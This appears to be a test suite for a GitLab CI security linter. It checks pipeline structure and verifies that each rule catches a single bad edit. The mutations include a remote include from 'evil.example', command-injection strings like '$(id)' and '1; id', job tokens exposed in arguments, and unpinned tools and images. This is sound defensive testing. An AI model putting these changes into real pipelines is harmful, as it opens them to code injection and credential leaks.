/** The files of GitLab CI: exactly what the description says, held by rules; and each rule, by a file that breaks it alone. */
import { pipelineFiles } from "../../pipelines/files";
import { atGitlab, fileOf } from "../pipelines/hosts";
import { foreignRuns, ruleFor, type Variables } from "./condition";
import { documentsOf, faultsOf, jobsOf } from "./rules";

const files = pipelineFiles(atGitlab);
const own = (name: string) => fileOf(atGitlab, `.gitlab/strongroom/${name}.yml`);
const deploy = jobsOf(own("deploy"));

it("there are these files, and the first includes those of the project itself", () => {
  expect([...files.keys()]).toEqual([
    ".gitlab-ci.yml",
    ...["pull-request", "deploy", "drift", "provider-lock", "rotation", "watch", "planner"].map(
      (name) => `.gitlab/strongroom/${name}.yml`,
    ),
    ".gitlab/strongroom/planner.gitlab-ci.yml",
  ]);
  const [spec, root] = documentsOf(fileOf(atGitlab, ".gitlab-ci.yml"));
  expect(spec).toEqual({
    spec: {
      inputs: {
        pipeline: {
          description: "What a schedule, or who runs a pipeline by hand, starts",
          options: ["none", "deploy", "drift", "provider lock", "rotation", "watch"],
          default: "none",
        },
      },
    },
  });
  expect(root?.include).toEqual(
    ["pull-request", "deploy", "drift", "provider-lock", "rotation", "watch"].map((name) => ({
      local: `/.gitlab/strongroom/${name}.yml`,
    })),
  );
});

it.each([...files.keys()])("%s breaks no rule", (file) => {
  expect(faultsOf(fileOf(atGitlab, file))).toEqual([]);
});

it("a job that applies: its lane, its environment, its token, and nothing of another job but the engine", () => {
  const { script, ...grants } = deploy["deploy/dev/grants"] ?? { script: [] };
  expect(grants).toMatchObject({
    rules: [
      {
        if: '$CI_PIPELINE_SOURCE == "push" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $STRONGROOM_PIPELINES == "on"',
      },
      {
        if: '$CI_PIPELINE_SOURCE == "web" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH && $STRONGROOM_PIPELINE == "deploy" && $STRONGROOM_PIPELINES == "on"',
      },
    ],
    resource_group: "strongroom-deploy-dev",
    interruptible: false,
    timeout: "60 minutes",
    environment: { name: "dev-apply-grants" },
    id_tokens: { STRONGROOM_ID_TOKEN: { aud: "https://iam.googleapis.com/$STRONGROOM_IDENTITY_PROVIDER" } },
    variables: { GIT_STRATEGY: "clone", GIT_DEPTH: "0" },
  });
  expect(script.join("\n")).toContain("serviceAccounts/$STRONGROOM_APPLY_GRANTS_IDENTITY:generateAccessToken");
});

it("environments come one after the other, and the short way of one is a person's to start", () => {
  const usual = Object.entries(deploy).find(([name]) => name.startsWith("deploy/prod/"))?.[1];
  expect(usual?.needs?.filter(({ job }) => !job.endsWith("/live"))).toEqual([
    { job: "deploy/changed", artifacts: true, optional: true },
    { job: "deploy/judge", artifacts: false, optional: true },
    { job: "deploy/engine", artifacts: true, optional: true },
  ]);
  expect(usual?.needs?.find(({ job }) => job.endsWith("/live"))).toEqual({
    job: "deploy/dev/live",
    artifacts: false,
    optional: true,
  });
  const short = Object.entries(deploy).filter(([name]) => name.startsWith("deploy/prod-pins/"));
  const manual = short.filter(([, { rules = [] }]) => rules.every(({ when }) => when === "manual"));
  expect(manual).toHaveLength(1);
  expect(manual[0]?.[1].script[0]).toContain(
    "if [ \"$(sed -n 's/^lane-prod=//p' .strongroom/outputs/changed)\" != pins ]",
  );
  expect(manual[0]?.[1].needs?.map(({ job }) => job)).toEqual(["deploy/changed", "deploy/judge", "deploy/engine"]);
});

it("only what may be started again is ended by something newer", () => {
  const ended = [...files.values()].flatMap((text) =>
    Object.entries(jobsOf(text)).flatMap(([name, { interruptible }]) => (interruptible === true ? [name] : [])),
  );
  expect(ended).toEqual([
    "pull-request/synth",
    "pull-request/plan",
    "pull-request/fork/judge",
    "watch/scan",
    "watch/engine",
  ]);
});

it("what a merge request hands to the planner has a form, and is in no script", () => {
  const [spec, root] = documentsOf(fileOf(atGitlab, ".gitlab/strongroom/planner.gitlab-ci.yml"));
  const patterns = Object.entries((spec as { spec: { inputs: Record<string, { regex: string }> } }).spec.inputs);
  expect(patterns.map(([name]) => name)).toEqual(["commit", "merge_request", "documents", "pipeline"]);
  for (const [name, { regex }] of patterns)
    for (const bad of ["$(id)", "1; id", "", "main", "1\n2", "-1"])
      expect([name, new RegExp(regex).test(bad)]).toEqual([name, false]);
  expect(root).toMatchObject({
    include: [{ project: "acme/infra/secrets", ref: "main", file: "/.gitlab/strongroom/planner.yml" }],
    workflow: { rules: [{ if: '$CI_PIPELINE_SOURCE == "pipeline" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' }] },
  });
});

it("documents of a merge request are unpacked once, where there is no identity", () => {
  const unpacking = Object.entries(jobsOf(own("planner"))).filter(([, { script }]) =>
    script.join("\n").includes("unzip -q documents.zip"),
  );
  expect(unpacking.map(([name, { id_tokens }]) => [name, id_tokens])).toEqual([["plan/policy/judge", undefined]]);
});

const main: Variables = { CI_DEFAULT_BRANCH: "main", CI_COMMIT_BRANCH: "main", STRONGROOM_PIPELINES: "on" };
const runs: readonly (readonly [string, Variables, readonly string[]])[] = [
  ["a push to a branch", foreignRuns.find((one) => one.CI_PIPELINE_SOURCE === "push") ?? {}, ["watch/scan"]],
  ["a merge request", foreignRuns[0] ?? {}, ["pull-request/synth", "pull-request/plan", "watch/scan"]],
  ["a fork's", foreignRuns[2] ?? {}, ["pull-request/synth", "pull-request/fork/judge", "watch/scan"]],
  [
    "the night's look",
    { ...main, CI_PIPELINE_SOURCE: "schedule", STRONGROOM_PIPELINE: "drift" },
    ["drift/plan/engine", "drift/plan/drift (dev)", "drift/plan/drift (prod)", "drift/issue"],
  ],
  ["somebody by hand, of nothing", { ...main, CI_PIPELINE_SOURCE: "web", STRONGROOM_PIPELINE: "none" }, []],
];
it.each(runs)("%s runs exactly its jobs", (_, run, expected) => {
  const found = [...files]
    .filter(([file]) => !file.includes("planner"))
    .flatMap(([, text]) =>
      Object.entries(jobsOf(text)).flatMap(([name, { rules = [] }]) => (ruleFor(rules, run) === null ? [] : [name])),
    );
  expect(found).toEqual(expected);
});

/** One change of a file, and the rule that finds it. */
const root = fileOf(atGitlab, ".gitlab-ci.yml");
it.each<[string, string, string | RegExp, string]>([
  [
    "identity-of-any-branch",
    own("deploy"),
    /( +- if: \$CI_PIPELINE_SOURCE == "push") && \$CI_COMMIT_BRANCH == \$CI_DEFAULT_BRANCH/g,
    "$1",
  ],
  ["identity-of-any-branch", own("rotation"), / && \$CI_COMMIT_BRANCH == \$CI_DEFAULT_BRANCH/g, ""],
  ["identity-of-any-branch", own("planner"), / && \$CI_COMMIT_BRANCH == \$CI_DEFAULT_BRANCH/g, ""],
  ["identity-outside-environment", own("deploy"), / {2}environment:\n {4}name: dev-apply-grants\n/, ""],
  ["cancelled-with-identity", own("deploy"), /interruptible: false/g, "interruptible: true"],
  ["no-timeout", own("deploy"), /\n {2}timeout: .*/, ""],
  ["foreign-code", own("deploy"), "./strongroom status", "npm ci --ignore-scripts; ./strongroom status"],
  ["install-scripts", own("pull-request"), "npm ci --ignore-scripts", "npm ci"],
  ["unpinned-tools", own("watch"), /\n.*sha256sum --check --quiet/, ""],
  ["unpinned-tools", own("watch"), "gitleaks git", "npx gitleaks git"],
  ["unpinned-images", root, /@sha256:\w+/, ":22"],
  ["foreign-include", root, /local: .*watch.*/, "remote: https://evil.example/x.yml"],
  ["template-injection", own("deploy"), "$CI_COMMIT_SHA", "$CI_COMMIT_REF_NAME"],
  ["template-injection", own("planner"), "$STRONGROOM_COMMIT", "$[[ inputs.commit ]]"],
  ["token-in-an-argument", own("pull-request"), 'token=<-"', 'token=$CI_JOB_TOKEN"'],
  ["token-in-an-argument", own("drift"), "--config -", '--header "JOB-TOKEN: $CI_JOB_TOKEN"'],
  ["public-artifacts", own("planner"), "access: developer", "access: all"],
  ["reused-folder", own("deploy"), "GIT_STRATEGY: clone", "GIT_STRATEGY: fetch"],
  ["token-for-all", own("planner"), /strongroom_host_token="\$GITLAB_TOKEN"\n +unset GITLAB_TOKEN/, "true"],
  ["keyword allow_failure", own("deploy"), "  interruptible: false", "  allow_failure: true\n  interruptible: false"],
])("%s: a file that breaks it (%#)", (rule, text, from, to) => {
  const bad = text.replace(from, to);
  expect(bad).not.toBe(text);
  expect([...new Set(faultsOf(bad).map((fault) => fault.rule))]).toEqual([rule]);
});
